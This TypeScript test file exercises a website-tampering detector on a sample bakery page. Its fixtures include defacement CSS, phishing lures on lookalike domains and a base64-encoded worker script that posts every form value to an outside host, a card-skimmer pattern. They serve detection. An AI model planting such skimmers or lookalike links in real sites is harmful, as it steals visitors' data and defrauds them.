/**
 * The rules of round 20 (tuned on fresh21 and fresh22 after their first
 * looks), on the hand-written bakery page: each with the change it catches
 * and the honest change beside it that it leaves alone.
 */
import { describe, expect, it } from "@effect/vitest"
import { baselineOf, breaches, checks, page, samples, verdictOf } from "../support/pages.js"

describe("round 20: what a visitor sees", () => {
  it("CSS forcing a colour, a font or a background on every element alerts; a theme restyling the body is reported only", () => {
    const forced = verdictOf(page({ seed: 4, head: `<style>*{font-family:"Chiller",fantasy!important}</style>` }))
    expect(breaches(forced)).toContain("appearance/page_restyled")
    const stripped = verdictOf(page({ seed: 4, head: `<style>html{background:#ce1126}body *{background:none!important;color:#fff!important}</style>` }))
    expect(breaches(stripped)).toContain("appearance/page_restyled")
    const theme = verdictOf(page({ seed: 4, head: `<style>body{background:#fdf6e3;color:#3b2f2f;font-family:Georgia,serif}</style>` }))
    expect(breaches(theme)).toEqual([])
    expect(checks(theme)).toContain("appearance/restyled")
    // (a reset that sets nothing of its own is no restyling)
    expect(breaches(verdictOf(page({ seed: 4, head: `<style>*{box-sizing:border-box;font-family:inherit}</style>` })))).toEqual([])
  })

  it("the page's content or every picture faded alerts; one faded teaser does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<style>img{opacity:.2}</style>` })))).toContain("appearance/page_faded")
    expect(breaches(verdictOf(page({ seed: 4, head: `<style>.teaser{opacity:.5}</style>` })))).toEqual([])
  })

  it("two of the page's pictures turned upside down or inverted by their own style alert; one arrow turned is reported", () => {
    const main = `<p><img src="/static/loaves.jpg" alt="Loaves"> <img src="/static/buns.jpg" alt="Buns"></p>`
    const base = baselineOf(samples((seed) => page({ seed, main })))
    const both = verdictOf(page({ seed: 4, main: main.replace(/<img /g, `<img style="transform: rotate(180deg)" `) }), base)
    expect(breaches(both)).toContain("appearance/pictures_flipped")
    const inverted = verdictOf(page({ seed: 4, main: main.replace(/<img /g, `<img style="filter:invert(100%)" `) }), base)
    expect(breaches(inverted)).toContain("appearance/pictures_flipped")
    const arrow = verdictOf(page({ seed: 4, main: `${main}<a href="/cakes"><img src="/static/arrow.svg" style="transform:scaleX(-1)" alt="Back"></a>` }), base)
    expect(breaches(arrow)).toEqual([])
    expect(checks(arrow)).toContain("appearance/pictures_flipped")
    // (a photo set askew is design)
    expect(checks(verdictOf(page({ seed: 4, main: main.replace(/<img /g, `<img style="transform:rotate(-3deg)" `) }), base))).not.toContain("appearance/pictures_flipped")
  })

  it("the site's own report of a defacement it has repaired is not a defacer's signature; a defacer's is", () => {
    const report = verdictOf(page({ seed: 4, top: `<div class="notice">Last Tuesday our website was defaced by an unknown group. The pages have been restored from backups and no customer data was taken.</div>` }))
    expect(checks(report)).not.toContain("visible_text/signature")
    expect(checks(report)).not.toContain("visible_text/defacement_words")
    const boast = verdictOf(page({ seed: 4, top: `<div class="notice">This website was defaced by Team Kraken. Your security is a joke.</div>` }))
    expect(breaches(boast)).toContain("visible_text/signature")
  })

  it("a page's labels given again in a second language are not words stamped on its headings; one word stamped on them is", () => {
    const nav = (a: string, b: string, c: string, d: string) => `<h2>${a}</h2><p>x</p><h2>${b}</h2><p>y</p><h2>${c}</h2><p>z</p><h2>${d}</h2>`
    const main = nav("Opening hours", "Celebration cakes", "Wholesale orders", "Find the shop")
    const base = baselineOf(samples((seed) => page({ seed, main })))
    const bilingual = verdictOf(page({ seed: 4, main: nav("Opening hours / Oriau agor", "Celebration cakes / Cacennau dathlu", "Wholesale orders / Archebion cyfanwerthu", "Find the shop / Dod o hyd i'r siop") }), base)
    expect(checks(bilingual)).not.toContain("visible_text/headings_stamped")
    const stamped = verdictOf(page({ seed: 4, main: nav("Opening hours | EXPOSED", "Celebration cakes | EXPOSED", "Wholesale orders | EXPOSED", "Find the shop") }), base)
    expect(breaches(stamped)).toContain("visible_text/headings_stamped")
  })

  it("a whole-price discount or everything declared free alerts; a real sale does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, top: `<div class="bar">Tonight only: 100 % Rabatt auf alles im Shop!</div>` })))).toContain("visible_text/impossible_offer")
    expect(checks(verdictOf(page({ seed: 4, top: `<div class="bar">Weekend sale: 20% off celebration cakes ordered before Friday.</div>` })))).not.toContain("visible_text/impossible_offer")
  })
})

describe("round 20: where the page sends visitors and their data", () => {
  it("contact or payment details said to be out of use beside a link to another domain alert; the site's own help page does not", () => {
    const moved = verdictOf(page({ seed: 4, body: `<p>Please note our telephone line is no longer answered. Raise a request at <a href="https://harbour-bakery.freshservice.com/support">our service desk</a>.</p>` }))
    expect(breaches(moved)).toContain("destinations/details_moved")
    const bank = verdictOf(page({ seed: 4, body: `<p>Wholesale customers: our bank details have changed. Download the <a href="https://files.box-share.net/d/7fa1/letter.pdf">new remittance letter</a>.</p>` }))
    expect(breaches(bank)).toContain("destinations/details_moved")
    const own = verdictOf(page({ seed: 4, body: `<p>Our telephone line is no longer answered on Sundays. See <a href="/visit">opening hours</a>.</p>` }))
    expect(checks(own)).not.toContain("destinations/details_moved")
    // (a new card processor named, with its privacy notice, changes no detail a customer pays to)
    const processor = verdictOf(page({ seed: 4, body: `<p>Neuer Zahlungsdienstleister: Kartenzahlungen laufen jetzt über Stripe. <a href="https://stripe.com/de/privacy">Datenschutz</a></p>` }))
    expect(checks(processor)).not.toContain("destinations/details_moved")
  })

  it("a licence line whose check is on a domain that is no public body's alerts; the regulator's own register does not", () => {
    const fake = verdictOf(page({ seed: 4, body: `<p>Harbour Bakery Finance Ltd is authorised and regulated by the Financial Conduct Authority. <a href="https://fca-firm-check.info/ref/781442">Verify</a></p>` }))
    expect(breaches(fake)).toContain("destinations/register_lookalike")
    const real = verdictOf(page({ seed: 4, body: `<p>Harbour Bakery Finance Ltd is authorised and regulated by the Financial Conduct Authority. <a href="https://register.fca.org.uk/s/firm?id=781442">Verify</a></p>` }))
    expect(checks(real)).not.toContain("destinations/register_lookalike")
    expect(breaches(real)).toEqual([])
  })

  it("a link to a host that puts a known service's name beside another word alerts; the service itself does not", () => {
    const fake = verdictOf(page({ seed: 4, body: `<p><a href="https://secure-calendly.site/harbour/tasting">Book a tasting</a></p>` }))
    expect(breaches(fake)).toContain("destinations/link_brand_lookalike")
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://calendly.com/harbourbakery/tasting">Book a tasting</a></p>` })))).toEqual([])
  })

  it("a link moved to the site's own space on a documentation service is a sign; to a space named with words added it alerts", () => {
    const base = baselineOf(samples((seed) => page({ seed, body: `<p><a href="/help">Help and FAQ</a></p>` })))
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://harbourbakery.gitbook.io/help">Help and FAQ</a></p>` }), base))).toEqual([])
    expect(breaches(verdictOf(page({ seed: 4, body: `<p><a href="https://harbourbakery-refunds.gitbook.io/help">Help and FAQ</a></p>` }), base))).toContain("destinations/link_retargeted")
  })

  it("a script written into a base64 data: URL (a worker built from it) is read: where it sends data counts", () => {
    const code = Buffer.from(`onmessage=function(e){fetch("https://cdn-harbour.top/c",{method:"POST",body:e.data})}`).toString("base64")
    const worker = verdictOf(page({ seed: 4, body: `<script>var w=new Worker("data:application/javascript;base64,"+"${code}");document.addEventListener("change",function(e){w.postMessage(e.target.value)})</script>` }))
    expect(breaches(worker).join(" ")).toMatch(/destinations\/inline_script_new_domain/)
    // (a picture drawn from a base64 data: URL is a picture)
    const picture = verdictOf(page({ seed: 4, body: `<script>document.getElementById("content").style.backgroundImage="url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)"</script>` }))
    expect(breaches(picture)).toEqual([])
  })

  it("the next or previous page announced on another host alerts", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<link rel="next" href="https://bakery-news.click/page/2">` })))).toContain("destinations/canonical_new_domain")
  })

  it("the site's files moved together to its own asset host are reported; one script moved there alerts", () => {
    const main = `<p><img src="/static/loaves.jpg" alt=""><img src="/static/buns.jpg" alt=""><img src="/static/cakes.jpg" alt=""></p>`
    const base = baselineOf(samples((seed) => page({ seed, main })))
    const all = verdictOf(page({ seed: 4, main }).replace(/(src|href)="\/static\//g, `$1="https://harbourbakery-static.net/static/`), base)
    expect(breaches(all)).toEqual([])
    const one = verdictOf(page({ seed: 4, main }).replace(`src="/static/app.js`, `src="https://harbourbakery-static.net/static/app.js`), base)
    expect(breaches(one).join(" ")).toMatch(/destinations\/script/)
  })
})

describe("round 20: identifiers", () => {
  it("an account the page's metadata newly names as the site's (twitter:site, article:publisher) with another name alerts; the site's own does not", () => {
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="twitter:site" content="@harbour_bakery_help">` })))).toContain("identifiers/identity_vouched")
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta property="article:publisher" content="https://www.facebook.com/harbourbakery.support">` })))).toContain("identifiers/identity_vouched")
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="twitter:site" content="@harbourbakery">` })))).toEqual([])
    // (named in every sample, it is the site's, whatever its name)
    const base = baselineOf(samples((seed) => page({ seed, head: `<meta name="twitter:site" content="@whitbybakes">` })))
    expect(breaches(verdictOf(page({ seed: 4, head: `<meta name="twitter:site" content="@whitbybakes">` }), base))).toEqual([])
  })

  it("a phone number put into the page out of sight (hidden, for a script to reveal) alerts; the site's own number hidden in a mobile menu does not", () => {
    const reveal = `<script>if(innerWidth<600)document.getElementById("m").style.display="block"</script>`
    const hidden = verdictOf(page({ seed: 4, body: `<p id="m" style="display:none">Call 020 7946 0718</p>${reveal}` }))
    expect(breaches(hidden)).toContain("identifiers/contact_hidden")
    const same = verdictOf(page({ seed: 4, body: `<p id="m" style="display:none">Call 01947 600 123</p>${reveal}` }))
    expect(checks(same)).not.toContain("identifiers/contact_hidden")
  })
})
